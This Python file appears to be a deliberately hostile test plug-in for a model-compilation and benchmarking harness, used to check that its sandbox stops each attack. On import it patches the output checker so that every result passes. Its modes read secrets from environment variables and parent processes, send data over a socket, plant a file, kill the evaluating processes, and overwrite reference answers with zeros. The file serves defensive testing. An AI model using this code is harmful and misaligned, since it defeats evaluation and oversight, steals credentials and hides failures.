"""A backend that reaches for what judges it: ONNX Runtime, with one attempt for each mode. None may have an effect
(tests/integration/test_intruders.py); what keeps it out is described in docs/security.md.

    targets:
      cpu:
        backends: [intruder]
        options: {intruder: {mode: [rewrites_reference], aim: PATH_OR_PORT}}

Each mode is a candidate of its own. What an attempt came to is a note of its artifact.
"""

import os
import resource
import signal
import socket
from contextlib import contextmanager, suppress
from dataclasses import replace
from pathlib import Path

import numpy as np

from compile_stage.backends.onnxruntime import OnnxRuntime
from compile_stage.core.records import Outcome, Scheme
from compile_stage.measure import metrics


def _patch_the_judge():
    """Whatever is compared by this process passes: done when the plug-in is imported."""
    compare = metrics.check_outputs

    def pass_all(*args, **kwargs):
        return tuple(replace(check, outcome=Outcome.PASS) for check in compare(*args, **kwargs))

    metrics.check_outputs = pass_all


_patch_the_judge()


def reads_secrets(aim):
    """Reads a file of the user's, and looks for secrets in its own environment and the stage's."""
    found = [value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name]
    for place in (Path(aim), *(Path(f"/proc/{pid}/environ") for pid in _ancestors())):
        try:
            found.append(place.read_bytes().decode(errors="replace"))
        except OSError:
            continue
    return f"read {found}"


def opens_network(aim):
    """Sends what it knows to a server."""
    with socket.create_connection(("127.0.0.1", int(aim)), timeout=5) as server:
        server.sendall(b"the model")
    return "sent"


def writes_elsewhere(aim):
    """Leaves a file for whoever comes later."""
    Path(aim).write_text("planted")
    return "written"


def kills_the_stage(aim):
    """Ends the run that judges it."""
    ended = []
    for pid in _ancestors():
        try:
            os.kill(pid, signal.SIGKILL)
            ended.append(pid)
        except OSError:
            with suppress(OSError):  # no CPU time any more: the kernel ends it
                resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
                ended.append(pid)
    return f"killed {ended}"


def rewrites_reference(aim):
    """Replaces every array below a folder, such as the reference answers, by the zeros that it answers itself."""
    changed = 0
    for path in Path(aim).rglob("*.npy"):
        array = np.load(path)
        np.save(path, np.zeros_like(array))
        changed += 1
    return f"changed {changed}"


def patches_the_judge(aim):
    """Nothing more than was done when it was imported."""
    return "patched"


ATTEMPTS = {
    attempt.__name__: attempt
    for attempt in (
        reads_secrets,
        opens_network,
        writes_elsewhere,
        kills_the_stage,
        rewrites_reference,
        patches_the_judge,
    )
}
ANSWERS_ZEROS = ("rewrites_reference", "patches_the_judge")


class Intruder(OnnxRuntime):
    """ONNX Runtime with the attempts that the target's option `mode` names."""

    name = "intruder"

    def refuse_target(self, target):
        """Never."""
        return

    def schemes(self, target, precision):
        """One for each mode."""
        if precision != "fp32":
            return ()
        own = target.options["intruder"]
        return tuple(
            Scheme(precision="fp32", name=mode, native=True, options={"mode": mode, "aim": str(own["aim"][mode])})
            for mode in own["mode"]
        )

    def tuning_options(self, target, scheme):
        """None."""
        return ()

    def compile(self, model, scheme, target, job_id, into, calibration=None):
        """As ONNX Runtime's, with the attempt beside it."""
        built = super().compile(model, scheme, replace(target, options={}), job_id, into, calibration)
        return replace(built, options=scheme.options, notes=(_tried(scheme.options),))

    @contextmanager
    def open(self, artifact, threads):
        """The session, after the attempt: by now there are reference answers."""
        _tried(artifact.options)
        with super().open(replace(artifact, options={}), threads) as session:
            yield _Zeros(session) if artifact.options["mode"] in ANSWERS_ZEROS else session


class _Zeros:
    def __init__(self, session):
        self.session, self.signature = session, session.signature

    def run(self, batch):
        """Zeros."""
        return {name: np.zeros_like(value) for name, value in self.session.run(batch).items()}


def _tried(options):
    try:
        return f"{options['mode']}: {ATTEMPTS[options['mode']](options['aim'])}"
    except OSError as error:
        return f"{options['mode']}: {type(error).__name__}"


def _ancestors():
    """The process ids of the guard, the stage, and whoever started it, but for init and a shell's own."""
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 2:
        pids.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return pids
